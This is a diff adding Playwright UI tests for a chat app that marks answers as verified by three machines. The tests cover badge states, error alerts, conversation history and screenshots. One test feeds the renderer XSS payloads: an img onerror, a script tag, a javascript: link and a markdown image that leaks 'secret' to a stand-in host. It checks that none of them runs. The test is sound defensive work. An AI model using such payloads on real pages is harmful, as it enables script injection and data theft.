@@ -1,0 +1,242 @@
+import { expect, type Page, test } from "@playwright/test";
+import { fitsItsWidth, isAccessible, schemes, shot, sizes } from "./looks";
+import { Stand } from "./stand";
+
+const long = `Helium asks **three machines** at once, drawn by lot from those with the same kind of card.
+
+1. Each works out the answer and *commits* to it: it publishes a fingerprint, which shows nothing.
+2. When all three have committed, each *opens* its result.
+3. Equal results are paid; one that differs loses its stake.
+
+\`\`\`js
+const digest = sha256(salt + response); // what is compared on chain
+if (digest === revealed) console.log("same bytes, and a line that is long enough to need scrolling sideways on a phone");
+\`\`\`
+
+| round | first | second | third |
+| --- | --- | --- | --- |
+| pay | 20 CNX | 18 CNX | 12 CNX |
+
+So nobody has to be trusted: \`they must agree\`.`;
+
+let stand: Stand;
+test.beforeEach(async () => {
+  stand = await Stand.start();
+});
+test.afterEach(() => stand.stop());
+
+async function ask(page: Page, text = "How is an answer checked?") {
+  await page.getByTestId("prompt").fill(text);
+  await page.getByTestId("send").click();
+}
+
+const badge = (page: Page) => page.getByTestId("badge").last();
+
+test("an answer turns verified, and its receipt shows three machines that this browser checked", async ({ page }) => {
+  const errors: string[] = [];
+  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
+  page.on("pageerror", (e) => errors.push(String(e)));
+  stand.script = { text: long };
+  await page.goto(stand.url);
+  await ask(page);
+  await expect(badge(page)).toHaveAttribute("data-state", "verified");
+  await expect(page.getByTestId("answer-text")).toContainText("they must agree");
+  await badge(page).click();
+  await expect(page.getByTestId("receipt-node")).toHaveCount(3);
+  await expect(page.getByTestId("browser-check").locator("li")).toHaveCount(3);
+  await expect(page.getByTestId("browser-check")).toContainText("The digest is the SHA-256");
+  await expect(page.getByTestId("browser-check")).toContainText("The text on your screen is the text");
+  const download = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Download the receipt" }).click();
+  expect((await download).suggestedFilename()).toBe("helium-receipt-128.json");
+  expect(errors).toEqual([]);
+});
+
+for (const [holdAt, words] of [
+  ["created", "task created"],
+  ["queued", "number 2 in line"],
+  ["drawn", "three machines drawn"],
+  ["running", "machines are working"],
+  ["committed2", "2 of 3 machines committed"],
+  ["revealed", "3 of 3 machines opened"],
+] as const) {
+  test(`the badge is provisional at ${holdAt}, and Escape stops reading`, async ({ page }) => {
+    stand.script = { text: "Some words.", holdAt };
+    await page.goto(stand.url);
+    await ask(page);
+    await expect(badge(page)).toContainText(words);
+    await expect(badge(page)).toHaveAttribute("data-state", "provisional");
+    await page.keyboard.press("Escape");
+    await expect(badge(page)).toHaveAttribute("data-state", "stopped");
+  });
+}
+
+for (const [name, script, words] of [
+  [
+    "no budget",
+    { refuse: { status: 402, message: "this request costs 50 CNX and 0 CNX of the budget is left" } },
+    "The budget for today is used up",
+  ],
+  ["full", { refuse: { status: 503, message: "", retryAfter: 9 } }, "Wait 9 seconds"],
+  ["too fast", { refuse: { status: 429, message: "", retryAfter: 1 } }, "Wait 1 second,"],
+  [
+    "gone model",
+    { refuse: { status: 404, message: "no node runs it", code: "model_not_found" } },
+    "This model can't be run now",
+  ],
+  [
+    "refused",
+    { refuse: { status: 400, message: "temperature must be between 0 and 2" } },
+    "temperature must be between 0 and 2",
+  ],
+] as const) {
+  test(`${name}: the reason and one action`, async ({ page }) => {
+    stand.script = script;
+    await page.goto(stand.url);
+    await ask(page);
+    await expect(page.getByRole("alert")).toContainText(words);
+    stand.script = { text: "Now it works." };
+    await page.getByRole("alert").getByRole("button").click();
+    await expect(badge(page)).toHaveAttribute("data-state", "verified");
+    await expect(page.getByRole("alert")).toHaveCount(0);
+  });
+}
+
+test("a disputed answer says so and can be asked again", async ({ page }) => {
+  stand.script = { text: "One of three.", dispute: true };
+  await page.goto(stand.url);
+  await ask(page);
+  await expect(badge(page)).toHaveAttribute("data-state", "disputed");
+  await expect(page.getByRole("alert")).toContainText("The nodes did not agree");
+  await isAccessible(page);
+});
+
+test("a cut connection is not a lost answer", async ({ page }) => {
+  stand.script = { text: "Half of a sentence", cut: true };
+  await page.goto(stand.url);
+  await ask(page);
+  await expect(page.getByText("The connection broke, the machines go on")).toBeVisible();
+  await expect(badge(page)).toHaveAttribute("data-state", "provisional");
+});
+
+test("a wrong stream is replaced by what was agreed on", async ({ page }) => {
+  stand.script = { text: "The sky is blue.", wrong: "The sky is green." };
+  await page.goto(stand.url);
+  await ask(page);
+  await expect(page.getByTestId("answer-text")).toHaveText("The sky is blue.");
+  await expect(page.getByText("What you saw while it was written differed")).toBeVisible();
+});
+
+test("the bridge being down is a state with one action, and it comes back", async ({ page }) => {
+  stand.script = { down: true };
+  await page.goto(stand.url);
+  await expect(page.getByText("The network's gateway doesn't answer")).toBeVisible();
+  await shot(page, "down-light-desk");
+  stand.script = {};
+  await page.getByRole("button", { name: "Try again" }).click();
+  await expect(page.getByText("The network's gateway doesn't answer")).toHaveCount(0);
+});
+
+test("no model is a state too", async ({ page }) => {
+  stand.script = { models: [] };
+  await page.goto(stand.url);
+  await expect(page.getByText("No model can be run now")).toBeVisible();
+  await page.getByTestId("prompt").fill("Hello?");
+  await expect(page.getByTestId("send")).toBeDisabled();
+});
+
+test("conversations outlive the page, and can be renamed, searched and deleted with a way back", async ({ page }) => {
+  stand.script = { text: "Fine." };
+  await page.goto(stand.url);
+  await ask(page, "First question");
+  await expect(badge(page)).toHaveAttribute("data-state", "verified");
+  await page.keyboard.press("Control+k");
+  await expect(page.getByRole("heading", { name: "What would you like to know?" })).toBeVisible();
+  await ask(page, "Second question");
+  await expect(badge(page)).toHaveAttribute("data-state", "verified");
+  await page.waitForTimeout(50);
+  await page.reload();
+  const list = page.getByRole("navigation", { name: "Conversations" });
+  await expect(list.getByRole("button", { name: "First question", exact: true })).toBeVisible();
+  await expect(badge(page)).toHaveAttribute("data-state", "verified");
+
+  await list.getByRole("button", { name: "More about First question" }).press("Enter");
+  await page.getByRole("menuitem", { name: "Rename" }).click();
+  await page.getByLabel("Name of the conversation").fill("Renamed");
+  await page.keyboard.press("Enter");
+  await expect(list.getByRole("button", { name: "Renamed", exact: true })).toBeVisible();
+
+  await list.getByRole("button", { name: "More about Second question" }).press("Enter");
+  await page.getByRole("menuitem", { name: "Delete" }).click();
+  await expect(list.getByRole("button", { name: "Second question", exact: true })).toHaveCount(0);
+  await page.getByRole("button", { name: "Undo" }).click();
+  await expect(list.getByRole("button", { name: "Second question", exact: true })).toBeVisible();
+});
+
+test("a question can be changed, and an answer asked for again", async ({ page }) => {
+  stand.script = { text: "One." };
+  await page.goto(stand.url);
+  await ask(page, "Before");
+  await expect(badge(page)).toHaveAttribute("data-state", "verified");
+  stand.script = { text: "Two." };
+  await page.getByRole("button", { name: "Edit question" }).focus();
+  await page.keyboard.press("Enter");
+  await page.getByLabel("Change your question").fill("After");
+  await page.keyboard.press("Enter");
+  await expect(page.getByTestId("answer-text")).toHaveText("Two.");
+  await expect(page.getByRole("listitem").filter({ hasText: "You asked: Before" })).toHaveCount(0);
+  stand.script = { text: "Three." };
+  await page.getByRole("button", { name: "Answer again" }).click();
+  await expect(page.getByTestId("answer-text")).toHaveText("Three.");
+});
+
+test("nothing in an answer is run, and no picture tells a stranger", async ({ page }) => {
+  stand.script = {
+    text: '<img src=x onerror="document.title=1"><script>document.title=2</script> ![secret](https://stranger.invalid/?q=secret) [click](javascript:document.title=3)',
+  };
+  const asked: string[] = [];
+  page.on("request", (r) => asked.push(r.url()));
+  await page.goto(stand.url);
+  await ask(page);
+  await expect(badge(page)).toHaveAttribute("data-state", "verified");
+  expect(asked.filter((u) => !u.startsWith(stand.url))).toEqual([]);
+  await expect(page.getByTestId("answer-text").locator("img,script")).toHaveCount(0);
+  await expect(page.getByTestId("answer-text").locator('a[href^="javascript"]')).toHaveCount(0);
+});
+
+for (const scheme of schemes) {
+  for (const size of sizes) {
+    test(`looks right: ${size.name}, ${scheme}`, async ({ page }) => {
+      await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
+      await page.setViewportSize(size);
+      const name = `${scheme}-${size.name}`;
+      stand.script = { text: long };
+      await page.goto(stand.url);
+      await expect(page.getByText("demo-1")).toBeAttached();
+      await shot(page, `welcome-${name}`);
+      await isAccessible(page);
+      await ask(page);
+      await expect(badge(page)).toHaveAttribute("data-state", "verified");
+      await shot(page, `verified-${name}`);
+      await isAccessible(page);
+      await fitsItsWidth(page);
+      await badge(page).click();
+      await expect(page.getByTestId("browser-check")).toBeVisible();
+      await shot(page, `receipt-${name}`);
+      await isAccessible(page);
+      await page.keyboard.press("Escape");
+      stand.script = {
+        text: "Two machines have committed to their results by now, and the third",
+        holdAt: "committed2",
+      };
+      await ask(page, "And what happens while they work?");
+      await expect(badge(page)).toContainText("2 of 3");
+      await shot(page, `running-${name}`);
+      await isAccessible(page);
+      await page.getByRole("button", { name: "Settings" }).click();
+      await expect(page.getByText("Longest answer")).toBeVisible();
+      await shot(page, `settings-${name}`);
+      await isAccessible(page);
+    });
+  }
+}
